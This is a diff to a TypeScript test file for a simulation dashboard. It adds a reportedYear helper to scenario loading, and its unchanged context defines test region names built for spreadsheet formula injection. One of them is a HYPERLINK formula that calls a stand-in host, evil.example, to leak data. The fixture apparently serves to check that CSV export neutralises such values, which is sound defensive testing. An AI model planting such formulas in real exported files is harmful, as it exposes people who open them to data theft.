@@ -14,7 +14,7 @@ import { writeRunFolder } from "../src/io/run-folder.js";
 import { queryRows } from "../src/io/duckdb.js";
 import { SYNTHETIC_CAPTION, SYNTHETIC_CSV_LINE } from "../src/io/synthetic.js";
 import { startServer, type DashboardServer } from "../src/server/server.js";
-import { makeScenario } from "./helpers.js";
+import { makeScenario, reportedYear } from "./helpers.js";
 
 /** Region names a spreadsheet would run as formulas, were they written as they are. */
 const FORMULA_REGIONS = ['=HYPERLINK("http://evil.example/?leak","click")', "+1+1", "-2+3", "@SUM(1)"];
@@ -44,7 +44,7 @@ before(async () => {
   tmp = mkdtempSync(join(tmpdir(), "credence-dash-"));
   runs = join(tmp, "runs");
   mkdirSync(ARTIFACTS, { recursive: true });
-  const result = simulate(loadScenario("scenarios/china-2018.yaml"), { seed: 5, population: 20_000, days: 90 });
+  const result = simulate(reportedYear(loadScenario("scenarios/china-2018.yaml")), { seed: 5, population: 20_000, days: 90 });
   await writeRunFolder(result, join(runs, "china"), { version: "test" });
   const formulas = makeScenario({ population: { size: 2000, regions: FORMULA_REGIONS.map((name) => ({ name, weight: 1, urbanShare: 0.5 })) } });
   await writeRunFolder(simulate(formulas, { seed: 2, days: 20 }), join(runs, "formulas"), { version: "test" });
